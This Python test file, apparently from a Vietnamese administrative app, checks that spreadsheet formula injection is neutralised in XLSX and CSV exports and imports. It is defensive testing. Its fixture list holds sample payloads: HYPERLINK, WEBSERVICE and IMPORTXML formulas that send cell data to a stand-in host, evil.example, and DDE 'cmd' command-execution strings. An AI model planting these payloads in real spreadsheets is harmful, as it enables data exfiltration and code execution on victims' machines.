"""Spreadsheet formula injection (issue 14, group 1): text that looks like a formula stays text.

Every XLSX the program writes (tasks, aspirations, the follow-up report) is read back with
openpyxl and its sheet XML is searched for formulas: each hostile text is a text cell ("s") with
exactly the text saved. CSV cells that would start a formula get OWASP's leading single quote and
every cell is quoted. An imported formula is read as its text, never evaluated.
"""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook
from openpyxl.worksheet.formula import ArrayFormula

from giaoban.core.clock import Clock
from giaoban.core.csvfile import cell, neutralize
from giaoban.core.services import aspirations, directory, tasks
from giaoban.core.services.aspiration_export import export_aspirations
from giaoban.core.services.aspiration_import import read_workbook
from giaoban.core.services.aspiration_import_write import import_aspirations
from giaoban.core.services.task_export import export_tasks
from giaoban.documents.exports import export_report

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    '=WEBSERVICE("http://evil.example/?d="&B2)',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "=SUM(A1:A9)*2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#REF!",
    "#N/A",
    "'=already quoted",
    "Đề nghị = 3 + 4 (không phải công thức)",
]
STARTS_FORMULA = ("=", "+", "-", "@")


def _org_ids(ctx) -> list[int]:
    return [o.id for o in directory.list_organizations(ctx)]


def _no_formula_in_sheets(path: Path) -> None:
    """No <f> element (a formula) anywhere in the workbook's sheets."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def _text_cells(path: Path) -> dict[str, openpyxl.cell.cell.Cell]:
    """Every string-valued cell of every sheet, by its value (formulas would be 'f')."""
    book = openpyxl.load_workbook(path)  # data_only=False: a formula would come back as one
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    found[c.value] = c
    return found


def _assert_text_cells(path: Path, texts: list[str]) -> int:
    _no_formula_in_sheets(path)
    cells = _text_cells(path)
    for text in texts:
        assert text in cells, f"{text!r} missing from {path.name}"
        assert cells[text].data_type == "s", (text, cells[text].data_type)
        assert cells[text].quotePrefix == text.startswith(STARTS_FORMULA), text
    return len(texts)


@pytest.fixture
def hostile_tasks(ctx):
    lead, other = _org_ids(ctx)[:2]
    for title in FORMULAS:
        tasks.create_task(ctx, title=title, detail=title, lead_unit_id=lead,
                          assigned_on=dt.date(2026, 10, 1), due_on=dt.date(2026, 12, 15),
                          supporting_unit_ids=[other])
    return FORMULAS


@pytest.fixture
def hostile_aspirations(ctx):
    org = _org_ids(ctx)[0]
    for index, text in enumerate(FORMULAS):
        aspirations.create_aspiration(ctx, organization_id=org, raised_on=dt.date(2026, 11, 2),
                                      content=text, locality=f"{text} {index}",
                                      people_concerned=text, response=text)
    return FORMULAS


def test_task_titles_stay_text_in_xlsx(ctx, hostile_tasks, tmp_path):
    out = tmp_path / "nv.xlsx"
    assert export_tasks(ctx, out) == len(FORMULAS)
    assert _assert_text_cells(out, hostile_tasks) == len(FORMULAS)
    sheet = openpyxl.load_workbook(out).active
    titles = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(titles) == sorted(FORMULAS)  # a task titled "=…" keeps its title
    assert isinstance(sheet["A2"].value, int) and sheet["F2"].is_date  # numbers, dates typed


def test_aspiration_texts_stay_text_in_xlsx(ctx, hostile_aspirations, tmp_path):
    out = tmp_path / "tktn.xlsx"
    assert export_aspirations(ctx, out) == len(FORMULAS)
    _assert_text_cells(out, hostile_aspirations)
    _assert_text_cells(out, [f"{text} {i}" for i, text in enumerate(FORMULAS)])


def test_report_workbook_keeps_titles_as_text(ctx, hostile_tasks, tmp_path):
    ctx.clock = Clock.at(dt.date(2026, 12, 20))
    out = export_report(ctx, "2026-Q4", tmp_path / "bc.xlsx")
    _assert_text_cells(Path(out), hostile_tasks)


def test_task_and_aspiration_csv_neutralize_formula_starts(ctx, hostile_tasks,
                                                          hostile_aspirations, tmp_path):
    checked = 0
    for name, export, column in (("nv.csv", export_tasks, 1), ("tktn.csv", export_aspirations, 7)):
        out = tmp_path / name
        export(ctx, out)
        text = out.read_bytes().decode("utf-8-sig")
        for line in text.split("\r\n")[:-1]:
            assert line.startswith('"') and line.endswith('"')  # every cell quoted
        rows = list(csv.reader(text.splitlines(), delimiter=";"))[1:]
        values = sorted(row[column] for row in rows)
        expected = sorted("'" + t if t.startswith(STARTS_FORMULA) else t for t in FORMULAS)
        assert values == expected
        for row in rows:
            for value in row:
                assert not value.startswith((*STARTS_FORMULA, "\t", "\r")), value
                checked += 1
    assert checked > 2 * len(FORMULAS)


@pytest.mark.parametrize("text,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\n=1+1"), ("a=1", "a=1"), ("", ""),
    ("'=x", "'=x"), ("Tây Ninh", "Tây Ninh"), ("=\x0b1", "'=\n1"), ("\x00=1", "'=1"),
])
def test_neutralize_every_formula_start(text, expected):
    assert neutralize(text) == expected


def test_csv_cells_of_other_types():
    assert cell(None) == "" and cell(12) == "12" and cell(dt.date(2026, 3, 5)) == "2026-03-05"
    assert cell(-5) == "-5"  # a number is no injection: only text is neutralized


def _formula_workbook(path: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.append(["STT", "Ngày", "Cơ quan phản ánh", "Nội dung", "Địa bàn"])
    ws.append([1, dt.datetime(2026, 8, 15), "Hội Nông dân tỉnh", FORMULAS[0], "=A2&\" xã\""])
    ws.append([2, dt.datetime(2026, 8, 16), "Hội Nông dân tỉnh", FORMULAS[1], "xã B"])
    ws.append([3, dt.datetime(2026, 8, 17), "Hội Nông dân tỉnh", FORMULAS[2], "xã C"])
    ws["D5"] = ArrayFormula("D5:D5", "=SUM(A2:A4*2)")
    ws["A5"], ws["B5"], ws["C5"] = 4, dt.datetime(2026, 8, 18), "Hội Nông dân tỉnh"
    wb.save(path)
    return path


def test_imported_formulas_are_read_as_their_text(ctx, tmp_path):
    path = _formula_workbook(tmp_path / "cong-thuc.xlsx")
    assert openpyxl.load_workbook(path).active["D2"].data_type == "f"  # real formula cells
    plan = read_workbook(ctx, path)
    assert not plan.problems
    contents = [values["content"] for _n, values in plan.rows]
    assert contents == [*FORMULAS[:3], "=SUM(A2:A4*2)"]
    assert plan.rows[0][1]["locality"] == '=A2&" xã"'  # not evaluated ("1 xã"), not dropped
    assert import_aspirations(ctx, plan) == 4
    out = tmp_path / "ra.xlsx"
    export_aspirations(ctx, out)
    _assert_text_cells(out, [*FORMULAS[:3], "=SUM(A2:A4*2)", '=A2&" xã"'])
